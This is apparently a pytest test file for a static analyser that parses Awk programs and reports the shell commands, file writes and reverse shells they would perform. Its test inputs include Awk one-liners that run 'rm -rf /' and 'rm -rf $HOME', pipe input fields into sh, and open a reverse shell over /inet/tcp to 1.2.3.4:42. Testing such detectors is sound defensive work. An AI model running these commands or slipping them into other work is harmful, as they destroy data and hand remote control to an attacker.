"""Awk programs in, what they would do out."""

from __future__ import annotations

import pytest

from interlock.analysis.code.tokenised import read_awk
from interlock.analysis.facts import hole
from recording_report import Fact, Recorder

FIELD = hole("field")
SYNTAX = ("unreadable", "Awk that does not parse", "syntax")

DEEDS: list[tuple[str, list[Fact]]] = [
    ('BEGIN{system("rm -rf /")}', [("shell", "rm -rf /")]),
    ('{system("rm " $1)}', [("shell", f"rm {FIELD}")]),
    ('{ print "rm -rf " $1 | "sh" }', [("shell", f"rm -rf {FIELD}")]),
    ('{ print $1 " " $2 | "sort -u" }', [("shell", "sort -u")]),
    ('BEGIN{ "date" | getline d; print d }', [("shell", "date")]),
    ('BEGIN { while (("ls " dir) | getline x > 0) print x }', [("shell", f"ls {hole('dir')}")]),
    (
        '{print > "out.txt"} END { print "x" >> "log"; printf("%s", $1) > $2 ".txt" }',
        [("write", "out.txt"), ("append", "log"), ("write", f"{FIELD}.txt")],
    ),
    ('BEGIN{c="rm"; c=c " -rf /"; system(c)}', [("shell", "rm -rf /")]),
    ('BEGIN{c="rm -rf /"} {c="ls"} END{system(c)}', [("shell", "ls"), ("shell", "rm -rf /")]),
    ('{ printf "%s", "rm -rf /" | "sh" }', [("shell", "rm -rf /")]),
    ("function f(a) { system(a) }\n{ f($1) }", [("shell", FIELD)]),
    ('BEGIN{system(sprintf("rm -rf %s", ENVIRON["HOME"]))}', [("shell", f"rm -rf {hole('HOME')}")]),
    (
        'BEGIN {s="/inet/tcp/0/1.2.3.4/42"; while(1){ s |& getline c; while ((c |& getline r) > 0) print r |& s }}',
        [("reverse_shell", "1.2.3.4:42")],
    ),
]

BENIGN = [
    '$5=="DELETE"{c++} END{print c}',
    "$1 > 5 { print $2 }",
    "{ if ($1 > 3) print ($2 > 4) }",
    '/rm -rf/ {print "system(x)"} # system("x")',
    '/^@/{a=substr($0,2);next} NF==3{add[a]+=$1} END{for(x in add) print x, "+"add[x]}',
    '{ gsub(/[/"]/, ""); print $1/2 }',
    'BEGIN{printf "x" > "/dev/stderr"}',
    "BEGIN { exit !(p >= 80) }",
    "NR>1 && /a|b/ || !seen[$0]++",
]


@pytest.mark.parametrize(("source", "told"), DEEDS)
def test_what_awk_does_is_told(source: str, told: list[Fact]) -> None:
    out = Recorder()
    read_awk(source, out)
    assert out.told == told


@pytest.mark.parametrize("source", BENIGN)
def test_harmless_awk_tells_nothing(source: str) -> None:
    out = Recorder()
    read_awk(source, out)
    assert out.told == []


@pytest.mark.parametrize("source", ['BEGIN{system("', "{", "/abc", "(" * 3000])
def test_awk_that_does_not_parse_is_told(source: str) -> None:
    out = Recorder()
    read_awk(source, out)
    assert out.told == [SYNTAX]


def test_variables_given_on_the_command_line_are_known() -> None:
    out = Recorder()
    read_awk("BEGIN{system(c)}", out, {"c": "rm -rf /"})
    assert out.told == [("shell", "rm -rf /")]
